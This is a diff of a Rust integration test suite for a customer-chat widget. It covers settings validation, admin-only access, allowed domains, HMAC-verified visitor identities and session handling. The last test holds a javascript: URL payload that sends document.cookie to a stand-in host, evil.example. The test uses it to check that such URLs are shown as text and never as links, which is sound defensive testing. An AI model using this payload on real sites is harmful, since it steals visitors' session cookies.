@@ -5,15 +5,9 @@ use reqwest::StatusCode;
 use serde_json::{Value, json};
 
 use crate::{
-    helpers::{Person, TestApp, spawn_app, unescape_html},
+    helpers::{Person, Role, TestApp, TestWorkspace, spawn_app, unescape_html},
     socket_client::Socket,
 };
-
-/// A workspace with a signed-in owner: (workspace id, site key).
-async fn workspace(app: &TestApp) -> (String, String) {
-    let id = app.browser.sign_up_ok(&Person::new("Ada")).await;
-    (id.clone(), app.query_string(&format!("SELECT site_key AS value FROM workspaces WHERE id = '{id}'")).unwrap())
-}
 
 fn settings_form<'a>(overrides: &[(&'a str, &'a str)]) -> Vec<(&'a str, &'a str)> {
     let mut fields = vec![
@@ -56,7 +50,7 @@ fn hmac_hex(secret: &str, id: &str) -> String {
 #[tokio::test]
 async fn the_loader_and_the_window_are_served_small_and_gzipped() {
     let app = spawn_app().await;
-    let (_, site_key) = workspace(&app).await;
+    let TestWorkspace { site_key, .. } = app.sign_up_workspace().await;
     let client = reqwest::Client::builder().no_gzip().build().unwrap();
     let loader = client.get(format!("{}/widget.js", app.address)).header("accept-encoding", "gzip").send().await.unwrap();
     assert_eq!(loader.status(), 200);
@@ -79,7 +73,7 @@ async fn the_loader_and_the_window_are_served_small_and_gzipped() {
 #[tokio::test]
 async fn an_admin_saves_the_widget_and_visitors_get_it() {
     let app = spawn_app().await;
-    let (id, site_key) = workspace(&app).await;
+    let TestWorkspace { id, site_key, .. } = app.sign_up_workspace().await;
     let response = app
         .browser
         .post_form(&format!("/app/{id}/widget"), &settings_form(&[("allowed_domains", "https://Shop.Example.com/cart\nlocalhost:3000")]))
@@ -109,7 +103,7 @@ async fn an_admin_saves_the_widget_and_visitors_get_it() {
 #[tokio::test]
 async fn bad_settings_are_refused_with_their_reasons_and_change_nothing() {
     let app = spawn_app().await;
-    let (id, _) = workspace(&app).await;
+    let TestWorkspace { id, .. } = app.sign_up_workspace().await;
     let long_greeting = "x".repeat(501);
     let response = app
         .browser
@@ -127,13 +121,15 @@ async fn bad_settings_are_refused_with_their_reasons_and_change_nothing() {
     assert!(page.contains("Enter a color like #2563eb."));
     assert!(page.contains("These are not domains: http://bad_domain.com, 'self'."), "{page}");
     assert!(page.contains("Keep the greeting under 500 characters."));
+    // What is stored, not what a page shows back.
     assert_eq!(app.query_string("SELECT color AS value FROM widget_settings").as_deref(), Some("#2563eb"));
 }
 
 #[tokio::test]
 async fn only_admins_change_the_widget_and_another_workspace_answers_404() {
     let app = spawn_app().await;
-    let (id, _) = workspace(&app).await;
+    let ws = app.sign_up_workspace().await;
+    let id = ws.id.clone();
     // Someone else, with a workspace of their own.
     let other = Person::new("Grace");
     let stranger = app.new_browser();
@@ -143,9 +139,8 @@ async fn only_admins_change_the_widget_and_another_workspace_answers_404() {
     assert_eq!(stranger.post_form(&format!("/app/{id}/widget/identity-secret"), &[]).await.status(), 404);
 
     // An agent of the workspace sees the snippet, not the settings or the secret.
-    let secret = app.query_string("SELECT identity_secret AS value FROM widget_settings");
-    let grace_id = app.query_string(&format!("SELECT id::text AS value FROM users WHERE email = '{}'", other.email)).unwrap();
-    app.execute(&format!("INSERT INTO memberships (workspace_id, user_id, role) VALUES ('{id}', '{grace_id}', 'agent')"));
+    let secret = Some(ws.identity_secret().await);
+    ws.add_existing_member(&stranger, &other, Role::Agent).await;
     let page = stranger.get_html(&format!("/app/{id}/widget")).await;
     assert!(page.contains("Only owners and admins can change how the widget looks"));
     if let Some(secret) = secret {
@@ -153,13 +148,14 @@ async fn only_admins_change_the_widget_and_another_workspace_answers_404() {
     }
     assert_eq!(stranger.post_form(&format!("/app/{id}/widget"), &settings_form(&[("color", "#000000")])).await.status(), 403);
     assert_eq!(stranger.post_form(&format!("/app/{id}/widget/identity-secret"), &[]).await.status(), 403);
+    // What is stored, not what a page shows back.
     assert_ne!(app.query_string("SELECT color AS value FROM widget_settings").as_deref(), Some("#000000"));
 }
 
 #[tokio::test]
 async fn a_site_that_is_not_allowed_gets_no_session_and_no_socket() {
     let app = spawn_app().await;
-    let (id, site_key) = workspace(&app).await;
+    let TestWorkspace { id, site_key, .. } = app.sign_up_workspace().await;
     let (_, session) = post_session(&app, Some("https://example.com"), json!({"site_key": site_key})).await;
     let token = session["visitor_token"].as_str().unwrap().to_string();
     app.browser.post_form(&format!("/app/{id}/widget"), &settings_form(&[("allowed_domains", "example.com")])).await;
@@ -182,9 +178,10 @@ async fn a_site_that_is_not_allowed_gets_no_session_and_no_socket() {
 #[tokio::test]
 async fn identities_need_a_valid_hash_when_the_workspace_requires_it() {
     let app = spawn_app().await;
-    let (id, site_key) = workspace(&app).await;
+    let ws = app.sign_up_workspace().await;
+    let (id, site_key) = (&ws.id, &ws.site_key);
     app.browser.post_form(&format!("/app/{id}/widget"), &settings_form(&[("identity_required", "on")])).await;
-    let secret = app.query_string("SELECT identity_secret AS value FROM widget_settings").unwrap();
+    let secret = ws.identity_secret().await;
     let contacts = app.count("contacts");
 
     let user = |hash: Option<String>| json!({"site_key": site_key, "user": {"id": "user-42", "email": "lin@example.com", "name": "Lin", "user_hash": hash}});
@@ -212,7 +209,7 @@ async fn identities_need_a_valid_hash_when_the_workspace_requires_it() {
 #[tokio::test]
 async fn an_anonymous_visitor_who_identifies_keeps_their_conversation() {
     let app = spawn_app().await;
-    let (_, site_key) = workspace(&app).await;
+    let TestWorkspace { site_key, .. } = app.sign_up_workspace().await;
     let (_, anonymous) = post_session(&app, None, json!({"site_key": site_key})).await;
     let token = anonymous["visitor_token"].as_str().unwrap();
     let (mut socket, _) = Socket::visitor(&app, token, json!({})).await;
@@ -229,7 +226,7 @@ async fn an_anonymous_visitor_who_identifies_keeps_their_conversation() {
 #[tokio::test]
 async fn the_widget_reports_where_the_visitor_is() {
     let app = spawn_app().await;
-    let (_, site_key) = workspace(&app).await;
+    let TestWorkspace { site_key, .. } = app.sign_up_workspace().await;
     let context = json!({"url": "https://shop.example.com/pricing", "title": "Pricing", "referrer": "https://search.example/",
         "language": "fr-FR", "time_zone": "Europe/Paris"});
     let (status, session) =
@@ -289,7 +286,7 @@ async fn the_widget_reports_where_the_visitor_is() {
 #[tokio::test]
 async fn shutdown_ends_the_visitor_session() {
     let app = spawn_app().await;
-    let (_, site_key) = workspace(&app).await;
+    let TestWorkspace { site_key, .. } = app.sign_up_workspace().await;
     let (_, session) = post_session(&app, None, json!({"site_key": site_key})).await;
     let token = session["visitor_token"].as_str().unwrap();
     let ended = reqwest::Client::new()
@@ -307,7 +304,7 @@ async fn shutdown_ends_the_visitor_session() {
 #[tokio::test]
 async fn visitors_see_whether_someone_is_online() {
     let app = spawn_app().await;
-    let (_, site_key) = workspace(&app).await;
+    let TestWorkspace { site_key, .. } = app.sign_up_workspace().await;
     let (_, before) = post_session(&app, None, json!({"site_key": site_key})).await;
     assert_eq!(before["agents_online"], false, "no agent has the inbox open");
     let mut agent = Socket::agent(&app, &app.browser).await;
@@ -325,7 +322,7 @@ async fn visitors_see_whether_someone_is_online() {
 async fn an_agent_online_on_another_instance_counts() {
     let app = spawn_app().await;
     let other = crate::helpers::spawn_instance_of(&app, |_| {}).await;
-    let (_, site_key) = workspace(&app).await;
+    let TestWorkspace { site_key, .. } = app.sign_up_workspace().await;
     let agent = Socket::agent(&app, &app.browser).await;
     let online = |expected: bool| {
         let (other, site_key) = (&other, site_key.clone());
@@ -349,9 +346,9 @@ async fn an_agent_online_on_another_instance_counts() {
 #[tokio::test]
 async fn an_identity_claimed_without_a_hash_never_reaches_the_real_contact() {
     let app = spawn_app().await;
-    let (id, site_key) = workspace(&app).await;
-    app.browser.get(&format!("/app/{id}/widget")).await;
-    let secret = app.query_string("SELECT identity_secret AS value FROM widget_settings").unwrap();
+    let ws = app.sign_up_workspace().await;
+    let (id, site_key) = (&ws.id, &ws.site_key);
+    let secret = ws.identity_secret().await;
     // User 42 signs in on the shop; the shop signs their id, and they ask something private.
     let verified = json!({"site_key": site_key, "user": {"id": "42", "email": "lin@example.com", "name": "Lin", "user_hash": hmac_hex(&secret, "42")}});
     let (status, lin) = post_session(&app, None, verified.clone()).await;
@@ -402,9 +399,9 @@ async fn an_identity_claimed_without_a_hash_never_reaches_the_real_contact() {
 #[tokio::test]
 async fn a_claimed_visitor_who_later_verifies_becomes_the_real_contact() {
     let app = spawn_app().await;
-    let (id, site_key) = workspace(&app).await;
-    app.browser.get(&format!("/app/{id}/widget")).await;
-    let secret = app.query_string("SELECT identity_secret AS value FROM widget_settings").unwrap();
+    let ws = app.sign_up_workspace().await;
+    let site_key = &ws.site_key;
+    let secret = ws.identity_secret().await;
     let (_, claimed) = post_session(&app, None, json!({"site_key": site_key, "user": {"id": "u-9", "name": "Kim"}})).await;
     assert_eq!(claimed["visitor"]["identified"], false);
     let token = claimed["visitor_token"].as_str().unwrap();
@@ -424,7 +421,7 @@ async fn a_claimed_visitor_who_later_verifies_becomes_the_real_contact() {
 #[tokio::test]
 async fn a_page_url_that_is_not_http_is_shown_as_text_never_as_a_link() {
     let app = spawn_app().await;
-    let (id, site_key) = workspace(&app).await;
+    let TestWorkspace { id, site_key, .. } = app.sign_up_workspace().await;
     let evil = "javascript:fetch('//evil.example/?c='+document.cookie)";
     let (_, session) = post_session(&app, None, json!({"site_key": site_key, "context": {"url": evil, "title": "Pricing"}})).await;
     let (mut socket, _) = Socket::visitor(&app, session["visitor_token"].as_str().unwrap(), json!({})).await;
